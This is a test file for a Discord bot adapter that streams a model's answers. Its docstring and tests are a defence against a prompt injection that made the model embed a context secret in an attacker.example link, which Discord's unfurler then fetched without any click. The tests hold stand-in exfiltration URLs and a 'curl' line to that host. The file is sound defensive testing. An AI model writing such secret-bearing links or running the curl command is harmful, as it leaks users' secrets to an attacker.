"""A link in the model's answer was embedded: Discord's unfurler fetches a link as soon as a
message shows it, so a prompt injection that had the model write
https://attacker.example/p?d=<a secret from the context> got the secret with no one clicking.
The answer's messages are now sent with embeds suppressed (the SUPPRESS_EMBEDS flag, kept
through every edit), unless `[discord] link_previews` turns them back on. The stand-in keeps
each message's flags and unfurls what Discord would (`FakeDiscordApi.unfurled`).

A slash command's deferred response cannot be flagged through discord.py's public API, and
was unfurled as its first edit showed the link: every link outside code is now also written
in angle brackets (<https://...>, [text](<https://...>)), which Discord shows with no embed;
the stand-in leaves such links alone as Discord does."""

from __future__ import annotations

from pathlib import Path

import pytest

pytest.importorskip("discord")
pytest.importorskip("websockets")

from adapters.discord.stream import MAX_MESSAGE, neutralise
from tests import discord_events as ev
from tests.adapter_harness import discord_harness
from tests.discord_api import unfurlable
from tests.doubles import ScriptedBackend

EXFIL = "https://attacker.example/p?d=s3cret"
# Long enough to be split past 2,000 characters, streamed word by word: sent and edited.
ANSWER = f"It is on [the statement]({EXFIL}).\n\n" + "word " * 500 + f"\n\nOr {EXFIL}&r=1 ."


@pytest.mark.parametrize("where", [ev.DM, ev.CHANNEL])
async def test_an_answers_messages_and_edits_embed_no_link(tmp_path: Path, where: int) -> None:
    backend = ScriptedBackend(lambda r: ANSWER, delay=lambda: 0.004)  # a model's pace
    async with discord_harness(tmp_path, backend) as h:
        await h.deliver_event(ev.message_create("my balance?", channel=where, mentions_bot=True))
        await h.idle()
        shown = h.api.texts(where)
        assert len(shown) >= 2 and EXFIL in shown[0] and f"{EXFIL}&r=1" in shown[-1]
        assert any(c.method == "PATCH" for c in h.api.writes(where))  # edited as it grew
        assert h.api.suppressed(where) == [True] * len(shown)
        assert h.api.unfurled == []


async def test_a_slash_commands_follow_ups_embed_no_link(tmp_path: Path) -> None:
    """The pieces past the deferred response go as follow-ups (the interaction's webhook),
    flagged too. The deferred response itself cannot be flagged with discord.py's public API
    (test_a_slash_commands_deferred_response_embeds_no_link)."""
    async with discord_harness(tmp_path, ScriptedBackend(lambda r: ANSWER)) as h:
        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
        await h.command(slash)
        await h.idle()
        follow_ups = [c for c in h.api.writes(ev.DM) if c.path.endswith(slash["token"])]
        assert follow_ups and all(c.body.get("flags") == 1 << 2 for c in follow_ups)
        assert h.api.suppressed(ev.DM)[1:] == [True] * (len(h.api.texts(ev.DM)) - 1)


async def test_link_previews_can_be_turned_back_on(tmp_path: Path) -> None:
    backend = ScriptedBackend(lambda r: ANSWER)
    async with discord_harness(tmp_path, backend, link_previews=True) as h:
        await h.send("my balance?")
        await h.idle()
        assert EXFIL in h.api.unfurled
        assert not any(h.api.suppressed(ev.DM))


async def test_a_slash_commands_deferred_response_embeds_no_link(tmp_path: Path) -> None:
    """The "thinking..." message, edited as the answer streams in, has no flag: its links are
    written in angle brackets from its first edit on, so none is unfurled."""
    backend = ScriptedBackend(lambda r: ANSWER, delay=lambda: 0.004)  # a model's pace
    async with discord_harness(tmp_path, backend) as h:
        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
        await h.command(slash)
        await h.idle()
        assert h.api.unfurled == []
        original = [c for c in h.api.writes(ev.DM) if c.path.endswith("/@original")]
        assert len(original) >= 2  # edited as it grew, the link in the first edits already
        shown = h.api.texts(ev.DM)
        assert shown[0].startswith(f"It is on [the statement](<{EXFIL}>).")
        assert shown[-1].endswith(f"Or <{EXFIL}&r=1> .")
        assert h.api.suppressed(ev.DM)[0] is False  # the brackets do it, not a flag


async def test_pieces_full_of_links_stay_within_discords_limit(tmp_path: Path) -> None:
    """Each link gains two characters as sent: the split counts them, so no message is
    refused for its length (which would cut the answer)."""
    links = " ".join(f"https://docs.example/page/{i:04}" for i in range(200))  # ~6,400
    async with discord_harness(tmp_path, ScriptedBackend(lambda r: links)) as h:
        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
        await h.command(slash)
        await h.idle()
        writes = h.api.writes(ev.DM)
        assert all(c.status != 400 for c in writes)
        assert all(len(c.body["content"]) <= MAX_MESSAGE for c in writes if "content" in c.body)
        shown = h.api.texts(ev.DM)
        assert len(shown) >= 3 and max(len(t) for t in shown) > MAX_MESSAGE - 40  # full
        assert " ".join(shown).replace("<", "").replace(">", "") == links  # nothing lost
        assert h.api.unfurled == []


async def test_backticks_written_as_text_embed_no_link(tmp_path: Path) -> None:
    """A backslash before a backtick shows the backtick as text (Discord's escape): a link
    between two such is no code, and was sent unbracketed in the deferred response, which
    has no flag, and unfurled."""
    answer = f"Type \\`{EXFIL} \\` to see it."
    async with discord_harness(tmp_path, ScriptedBackend(lambda r: answer)) as h:
        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
        await h.command(slash)
        await h.idle()
        assert h.api.unfurled == []
        assert h.api.texts(ev.DM) == [f"Type \\`<{EXFIL}> \\` to see it."]


async def test_a_code_block_streaming_in_embeds_no_link(tmp_path: Path) -> None:
    """A link in a code block is no link to Discord, but only once the block is closed: while
    the answer streams, the deferred response (which has no flag) showed "```" and the link
    after it as text, and Discord's unfurler fetched it before the closing fence came."""
    answer = f"Run this:\n```\ncurl {EXFIL} -o reply.txt\n```\nand tell me what it says."
    backend = ScriptedBackend(lambda r: answer, delay=lambda: 0.05)  # the fence closes later
    async with discord_harness(tmp_path, backend) as h:
        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
        await h.command(slash)
        await h.idle()
        assert h.api.unfurled == []
        original = [c for c in h.api.writes(ev.DM) if c.path.endswith("/@original")]
        assert any(f"curl <{EXFIL}>" in c.body.get("content", "") for c in original)
        assert h.api.texts(ev.DM) == [answer]  # the closed block shows as it was written


@pytest.mark.parametrize(
    ("written", "sent"),
    [
        ("See https://a.example/x.", "See <https://a.example/x>."),
        ("(see https://a.example/x), then", "(see <https://a.example/x>), then"),
        (
            "https://en.wikipedia.org/wiki/Tea_(drink).",
            "<https://en.wikipedia.org/wiki/Tea_(drink)>.",
        ),
        (
            "[the statement](https://a.example/p?d=1).",
            "[the statement](<https://a.example/p?d=1>).",
        ),
        ("[wiki](https://w.example/Tea_(drink))s", "[wiki](<https://w.example/Tea_(drink)>)s"),
        ('[t](https://a.example "title")', '[t](<https://a.example> "title")'),
        ("**https://a.example/x**", "**<https://a.example/x>**"),
        ("HTTPS://A.EXAMPLE/p>?d=1", "<HTTPS://A.EXAMPLE/p%3E?d=1>"),
        ("Already <https://a.example/x> and [t](<https://a.example/y>).",) * 2,
        ("Still streaming <https://a.example/p?d=se", "Still streaming <https://a.example/p?d=se>"),
        ("`curl https://a.example/x` and\n```\nhttps://a.example/y\n```",) * 2,
        # A fence not (yet) closed is no code block to Discord: its text shows as Markdown.
        ("```\ncurl https://a.example/y", "```\ncurl <https://a.example/y>"),
        # A backslash before a backtick shows the backtick as text: no code there either.
        ("\\`https://a.example/y?d=1 \\`", "\\`<https://a.example/y?d=1> \\`"),
        # An inline code span closes with as many backticks as opened it, and no more: one
        # before two closes nothing, and the link shows.
        ("`https://a.example/y?d=1``", "`<https://a.example/y?d=1``>"),
        ("``a `https://a.example/y` b``",) * 2,
        ("@everyone: https://a.example/@here", "@\u200beveryone: <https://a.example/@here>"),
    ],
)
def test_links_are_written_as_discord_shows_them_without_an_embed(written: str, sent: str) -> None:
    assert neutralise(written, bracket_links=True) == sent
    assert unfurlable(sent) == []
